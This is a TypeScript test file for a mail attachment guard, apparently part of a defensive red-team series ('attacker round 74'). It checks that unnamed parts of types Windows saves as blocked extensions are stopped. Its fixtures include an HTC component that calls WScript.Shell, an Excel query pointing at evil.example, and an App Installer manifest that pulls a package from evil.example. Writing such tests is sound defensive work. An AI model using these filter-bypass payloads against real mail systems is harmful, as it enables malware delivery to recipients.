import { describe, expect, it } from 'vitest';
import { attachmentTests, attackerKit, MIXED, mail, withPart } from './attacker-kit.js';
import { useLocalStack } from './stack.js';

// Attacker round 74: an unnamed part (or one named without an extension) is saved by Outlook under the extension
// Windows' MIME database maps its declared type to (ATT00001.hta). `text/x-ms-rqy` (an Excel OLAP query, which
// Excel registers) and `text/x-component` (an HTML component, which Internet Explorer registers) map to `.rqy` and
// `.htc`, both on the default block list, but the guard knew neither type: such parts were delivered. So were unnamed
// parts of the types Microsoft documents for App Installer packages (`application/appinstaller`, `application/msix`…)
// and Apple for configuration profiles (`application/x-apple-aspen-config`).
const stack = useLocalStack();
const kit = attackerKit(stack);

const RQY = 'QueryType=OLEDB\r\nConnection=Provider=MSOLAP;Data Source=http://evil.example/wmflow-74-2\r\n';
const HTC =
  '<public:component><script>new ActiveXObject("WScript.Shell").Run("wmflow-74-2")</script></public:component>';
const part = (headers: readonly string[], body: string): Buffer =>
  mail([MIXED], withPart([...headers, '', body].join('\r\n')));

describe('A74-2: an unnamed part of a type Windows saves as a blocked extension', () => {
  attachmentTests(kit, {
    'an unnamed text/x-ms-rqy attachment': [
      part(['Content-Type: text/x-ms-rqy', 'Content-Disposition: attachment'], RQY),
      'wmflow-74-2',
    ],
    'an inline text/x-ms-rqy part named without an extension': [
      part(['Content-Type: text/x-ms-rqy; name="Quarterly figures"'], RQY),
      'wmflow-74-2',
    ],
    'an unnamed text/x-component attachment': [
      part(['Content-Type: text/x-component', 'Content-Disposition: attachment'], HTC),
      'wmflow-74-2',
    ],
    'an unnamed TEXT/X-Component part, no disposition': [
      part(['Content-Type: TEXT/X-Component'], HTC),
      'wmflow-74-2',
    ],
    'an unnamed application/appinstaller part (App Installer fetches the package it names)': [
      part(
        ['Content-Type: application/appinstaller'],
        '<AppInstaller Uri="https://evil.example/wmflow-74-2.appinstaller"><MainPackage Uri="https://evil.example/a.msix"/></AppInstaller>',
      ),
      'wmflow-74-2',
    ],
    'an unnamed application/x-apple-aspen-config part (a configuration profile)': [
      part(
        ['Content-Type: application/x-apple-aspen-config', 'Content-Disposition: attachment'],
        '<plist><dict><key>PayloadDisplayName</key><string>wmflow-74-2</string></dict></plist>',
      ),
      'wmflow-74-2',
    ],
  });

  it('(control) delivers the same types under a name with a harmless extension, and unnamed text attachments', async () => {
    for (const headers of [
      [
        'Content-Type: text/x-ms-rqy; name="query.txt"',
        'Content-Disposition: attachment; filename="query.txt"',
      ],
      ['Content-Type: text/x-component; name="notes.txt"'],
      ['Content-Type: text/plain', 'Content-Disposition: attachment'],
      ['Content-Type: text/css', 'Content-Disposition: attachment'],
    ])
      expect((await kit.inbound(part(headers, 'quarterly figures'))).verdict, headers[0]).toBe('DEFAULT');
  });
});
